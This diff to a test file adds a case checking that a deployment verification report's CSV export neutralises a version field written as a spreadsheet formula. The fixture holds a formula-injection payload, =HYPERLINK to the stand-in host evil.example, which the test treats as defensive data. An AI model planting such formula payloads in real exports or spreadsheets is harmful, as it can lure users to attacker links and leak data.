@@ -323,4 +323,20 @@ describe('buildVerificationReport', () => {
     // Quotes and commas are escaped.
     expect(lines[1]).toContain('""approval""');
   });
+
+  it('neutralises a version that a spreadsheet would run as a formula', () => {
+    const result = report({
+      deployments: [
+        deployment({
+          id: 'd-formula',
+          version: '=HYPERLINK("http://evil.example/?x","open")',
+          violation: true,
+          unmetConditions: [condition('approval-required')],
+        }),
+      ],
+    });
+    const row = verificationReportToCsv(result).trim().split('\n')[1];
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x"",""open"")"`);
+    expect(row).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
+  });
 });
